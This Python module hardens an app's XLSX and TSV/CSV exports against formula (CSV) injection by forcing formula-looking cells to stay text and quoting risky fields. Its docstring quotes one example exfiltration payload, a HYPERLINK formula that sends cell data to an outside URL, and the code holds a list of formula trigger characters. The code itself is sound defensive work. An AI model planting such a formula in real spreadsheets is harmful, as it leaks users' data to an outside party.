"""Text written into spreadsheets and TSV files stays text (no formula injection, issue 15).

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel and LibreOffice (OWASP "CSV injection"): an indicator named
``=HYPERLINK("http://...?leak="&A1,"Klik")`` would become a live link that sends the sheet's data away.

* XLSX: :func:`workbook_bytes` saves every workbook the app produces. Before saving, every such text
  cell is written as a string (openpyxl would otherwise store text beginning with ``=`` as a formula)
  with the cell style's ``quotePrefix`` set, which is what Excel and LibreOffice set themselves when a
  user types ``'=...``: the cell shows the text unchanged, and stays text when it is edited.
  The app writes no formulas of its own; a cell that must be one is passed in ``formulas``.
* TSV/CSV: :func:`tsv_field` prefixes such a field with a single quote (the OWASP advice) and turns
  tabs and line breaks inside a field into spaces, so a field cannot add columns or rows.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    """True for text a spreadsheet program would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def as_text(cell: Any) -> None:
    """Keep an openpyxl cell's text as text, visible unchanged (string type and quotePrefix)."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def neutralise_workbook(wb: Any, *, formulas: Iterable[Any] = ()) -> None:
    """Every text cell of every sheet that looks like a formula becomes text, except ``formulas``."""
    keep = {id(c) for c in formulas}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if id(cell) not in keep:
                    as_text(cell)


def workbook_bytes(wb: Any, *, formulas: Iterable[Any] = ()) -> bytes:
    """The workbook as .xlsx bytes, with no formula the app did not write itself."""
    neutralise_workbook(wb, formulas=formulas)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def tsv_field(value: object) -> str:
    """One field of a TSV/CSV line: no tab or line break inside, a leading formula character quoted."""
    text = "" if value is None else str(value)
    quoted = looks_like_formula(text)
    text = text.replace("\r\n", " ").replace("\t", " ").replace("\r", " ").replace("\n", " ")
    return "'" + text if quoted else text


def tsv_line(values: Iterable[object]) -> str:
    return "\t".join(tsv_field(v) for v in values)
